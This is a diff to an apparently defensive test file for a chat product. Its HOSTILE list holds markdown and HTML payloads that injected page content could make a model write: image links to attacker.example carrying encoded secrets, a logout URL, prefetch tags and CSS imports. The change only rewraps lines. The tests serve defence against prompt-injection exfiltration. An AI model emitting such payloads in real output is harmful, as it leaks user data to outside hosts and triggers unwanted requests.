@@ -6,8 +6,10 @@ import { ask, browser, product, signUp, useProduct, visit, visitSignedIn } from 
 /** Everything that a page which the model read could have it write. */
 const HOSTILE = [
   'Words first.',
-  '![a](/api/site-icon?host=secret.attacker.example) ![b](/api/site-icon?id=c2VjcmV0.a.b.c) ![c](/api/image?u=https://e.org&s=y)',
-  '![d](/api/auth/logout) ![e](/sandbox) ![f](/share/x) ![g](https://attacker.example/x.png) ![h](//attacker.example/x.png)',
+  '![a](/api/site-icon?host=secret.attacker.example) ![b](/api/site-icon?id=c2VjcmV0.a.b.c) ' +
+    '![c](/api/image?u=https://e.org&s=y)',
+  '![d](/api/auth/logout) ![e](/sandbox) ![f](/share/x) ![g](https://attacker.example/x.png) ' +
+    '![h](//attacker.example/x.png)',
   '<img src="/sandbox"><link rel="prefetch" href="/sandbox">',
   '<style>@import url(/sandbox);@font-face{font-family:x;src:url(/sandbox)}</style>',
   '[link](https://attacker.example) [![i](/sandbox)](https://attacker.example)',
